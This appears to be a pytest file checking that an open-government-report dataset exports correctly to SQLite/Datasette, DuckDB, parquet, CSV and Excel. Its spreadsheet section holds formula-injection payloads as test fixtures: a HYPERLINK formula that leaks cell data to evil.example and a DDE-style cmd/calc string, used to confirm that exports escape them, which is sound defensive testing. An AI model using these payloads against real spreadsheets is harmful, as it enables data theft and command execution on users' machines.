"""Exports for Datasette, DuckDB, parquet and spreadsheets (issue 16 points 6, 7, 9; issue 15 items 14, 15).

SQLite is checked as Datasette reads it: through ``sqlite3`` PRAGMAs (primary and foreign keys) and an
FTS5 query on the report prose.
"""

from __future__ import annotations

import csv
import io
import os
import sqlite3
from pathlib import Path

import pandas as pd
import pytest

from ogi.analysis.export import export, export_csv, export_xlsx, gather


@pytest.fixture(scope="module")
def db(dataset: Path, tmp_path_factory: pytest.TempPathFactory) -> sqlite3.Connection:
    out = tmp_path_factory.mktemp("site")
    export(dataset, "sqlite", out)
    return sqlite3.connect(out / "ogi.db")


def test_sqlite_primary_keys(db: sqlite3.Connection) -> None:
    def pk(table: str) -> list[str]:
        info = db.execute(f'PRAGMA table_info("{table}")').fetchall()
        return [row[1] for row in sorted(info, key=lambda r: r[5]) if row[5]]

    assert pk("report_ids") == ["report_id"]
    assert pk("reports") == ["source"]
    assert pk("cells") == ["report_id", "cell"]
    assert pk("metrics") == ["report_id", "metric"]
    assert pk("wide") == ["report_id"] and pk("agencies") == ["source"]


def test_sqlite_foreign_keys_name_agency_and_year(db: sqlite3.Connection) -> None:
    for table in ("reports", "cells", "checks", "sections", "unmapped", "agencies", "metrics", "wide"):
        fks = {(r[3], r[2], r[4]) for r in db.execute(f'PRAGMA foreign_key_list("{table}")')}
        assert ("report_id", "report_ids", "report_id") in fks, table
    assert ("source", "reports", "source") in {
        (r[3], r[2], r[4]) for r in db.execute('PRAGMA foreign_key_list("agencies")')
    }
    assert db.execute("PRAGMA foreign_key_check").fetchall() == []  # every reference resolves
    labels = dict(db.execute("SELECT report_id, label FROM report_ids").fetchall())
    rid = db.execute("SELECT report_id FROM reports WHERE source LIKE '%jiaxing-stats-2022.txt'").fetchall()[
        0
    ][0]
    assert labels[rid] == "嘉兴市统计局 2022"


def test_sqlite_full_text_search_on_sections(db: sqlite3.Connection) -> None:
    hits = db.execute(
        "SELECT s.report_id FROM sections_fts JOIN sections s ON s.rowid = sections_fts.rowid "
        "WHERE sections_fts MATCH '信息处理费'"
    ).fetchall()
    assert hits  # 「本年度收取信息处理费 3940 元」 in 嘉兴市财政局 2022
    total = db.execute("SELECT count(*) FROM sections").fetchall()[0][0]
    assert db.execute("SELECT count(*) FROM sections_fts").fetchall()[0][0] == total


def test_sqlite_metrics_carry_agency_year_and_n(db: sqlite3.Connection) -> None:
    cols = [r[1] for r in db.execute("PRAGMA table_info(metrics)")]
    assert cols == ["report_id", "agency", "year", "metric", "value", "n"]
    row = db.execute(
        "SELECT value, n FROM metrics WHERE agency = '嘉兴市生态环境局' AND year = 2022 AND metric = 'refused_rate'"
    ).fetchall()
    assert row and round(row[0][0], 3) == 0.286 and row[0][1] == 7


def test_datasette_metadata_points_only_at_what_exists(
    db: sqlite3.Connection, dataset: Path, tmp_path: Path
) -> None:
    import json

    export(dataset, "sqlite", tmp_path / "site")
    meta = json.loads((tmp_path / "site" / "metadata.json").read_text(encoding="utf-8"))
    tables = meta["databases"]["ogi"]["tables"]
    con = sqlite3.connect(tmp_path / "site" / "ogi.db")
    for name, entry in tables.items():
        cols = {r[1] for r in con.execute(f'PRAGMA table_info("{name}")')}
        assert cols, name
        assert set(entry["columns"]) <= cols and set(entry["facets"]) <= cols
    assert tables["sections"]["fts_table"] == "sections_fts"
    text = json.dumps(meta, ensure_ascii=False)
    assert "below" not in text  # nothing points at a section of a document that is not in the database
    assert "ok: tables 二, 三 and 四 recognised" in tables["reports"]["columns"]["status"]
    assert "metric_definitions" in tables["metrics"]["columns"]["metric"]
    assert tables["report_ids"]["label_column"] == "label"


def test_duckdb_and_parquet_exports_carry_the_metrics(dataset: Path, tmp_path: Path) -> None:
    import duckdb

    export(dataset, "duckdb", tmp_path / "x.duckdb")
    con = duckdb.connect(str(tmp_path / "x.duckdb"), read_only=True)
    try:
        cols = [r[0] for r in con.execute("DESCRIBE metrics").fetchall()]
    finally:
        con.close()
    assert cols == ["report_id", "agency", "year", "metric", "value", "n"]
    written = export(dataset, "parquet", tmp_path / "pq")
    assert tmp_path / "pq" / "metrics.parquet" in written
    m = pd.read_parquet(tmp_path / "pq" / "metrics.parquet")
    assert str(m["year"].dtype) == "Int16"  # a nullable integer, never float64


def test_years_load_as_nullable_integers(dataset: Path) -> None:
    """The dataset has a failed report (no year): ``year`` is still an integer column in pandas."""
    reports = pd.read_parquet(dataset / "reports.parquet")  # no option needed: the files say so
    assert reports["year"].isna().any() and str(reports["year"].dtype) == "Int16"
    assert str(reports["n_cells"].dtype) == "Int32" and reports["source"].dtype == "str"
    cells = pd.read_parquet(dataset / "cells.parquet")
    assert str(cells["year"].dtype) == "Int16" and cells["value"].dtype == "float64"
    import duckdb

    got = duckdb.sql(f"SELECT typeof(year) FROM '{dataset / 'reports.parquet'}' LIMIT 1").fetchall()
    assert got == [("SMALLINT",)]
    t = gather(dataset)
    assert str(t["wide"]["year"].dtype) == "Int16" and str(t["metrics"]["year"].dtype) == "Int16"


# -- spreadsheets: formula injection, control characters, polish -----------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def _evil_tables(dataset: Path) -> dict[str, pd.DataFrame]:
    tables = gather(dataset)
    reports = tables["reports"].copy()
    titles = reports["title"].astype(object)
    titles.iloc[0] = EVIL
    titles.iloc[1] = "@SUM(1+1)*cmd|' /C calc'!A0"
    titles.iloc[2] = "报告\x0b标题\x1b[31m"
    reports["title"] = titles
    tables["reports"] = reports
    return tables


def test_csv_text_cells_cannot_become_formulas(dataset: Path, tmp_path: Path) -> None:
    export_csv(_evil_tables(dataset), tmp_path / "csv")
    with open(tmp_path / "csv" / "reports.csv", encoding="utf-8-sig", newline="") as fh:
        titles = [row["title"] for row in csv.DictReader(fh)]
    assert titles[0] == "'" + EVIL and titles[1].startswith("'@SUM")
    assert titles[2] == "报告\\x0b标题\\x1b[31m"
    assert not any(t.startswith(("=", "+", "@")) for t in titles if t)
    # a plain signed number as printed stays a number
    from ogi.utils.text import spreadsheet_text

    assert spreadsheet_text("-1") == "-1" and spreadsheet_text("-1+2") == "'-1+2"


def test_xlsx_text_cells_are_text_and_control_characters_do_not_break_it(
    dataset: Path, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "x.xlsx"
    export_xlsx(_evil_tables(dataset), out)
    assert [p.name for p in tmp_path.iterdir()] == ["x.xlsx"]  # no temporary file left
    ws = load_workbook(out)["reports"]
    header = [c.value for c in ws[1]]
    col = header.index("title") + 1
    cells = [ws.cell(row=r, column=col) for r in range(2, 5)]
    assert cells[0].value == EVIL and cells[0].data_type == "s"  # text, not a formula
    assert all(c.data_type == "s" for c in cells)
    assert cells[2].value == "报告\\x0b标题\\x1b[31m"


def test_a_failed_xlsx_write_leaves_no_temporary_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from openpyxl.workbook.workbook import Workbook

    from ogi.analysis import spreadsheet

    def boom(self: object, filename: str) -> None:
        Path(filename).write_bytes(b"PK half a workbook")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Workbook, "save", boom)
    with pytest.raises(OSError):
        spreadsheet.write_xlsx(tmp_path / "y.xlsx", {"s": pd.DataFrame({"a": ["x"]})})
    assert os.listdir(tmp_path) == []


def test_the_spreadsheet_is_polished(dataset: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "ogi.xlsx"
    export(dataset, "xlsx", out)
    wb = load_workbook(out)
    ws = wb["reports"]
    assert ws[1][0].font.bold and ws.auto_filter.ref and ws.freeze_panes == "A2"
    assert ws.column_dimensions["B"].width > 10  # sources are wide
    wide = wb["wide"]
    keys = [c.value for c in wide[2]]
    labels = [c.value for c in wide[1]]
    i = keys.index("t3.granted.natural_person")
    assert labels[i] == "（一）予以公开／自然人"  # the Chinese label over the dotted key
    assert wide.freeze_panes == "A3" and wide.auto_filter.ref.startswith("A2:")
    metrics = wb["metrics"]
    mkeys = [c.value for c in metrics[2]]
    j = mkeys.index("refused_rate") + 1
    assert metrics.cell(row=3, column=j).number_format == "0.0%"
    assert [c.value for c in metrics[1]][j - 1] == "不予公开率"


def test_compare_csv_is_safe_too(ds) -> None:
    import dataclasses

    from ogi.analysis.compare import Filters, run_compare

    agencies = ds.agencies.copy()
    agencies["agency"] = agencies["agency"].astype(object).map(lambda a: "=1+1" if a == "嘉兴市统计局" else a)
    text = run_compare(dataclasses.replace(ds, agencies=agencies), "refused_rate", Filters(), fmt="csv")
    rows = list(csv.DictReader(io.StringIO(text or "")))
    assert "'=1+1" in {r["agency"] for r in rows}
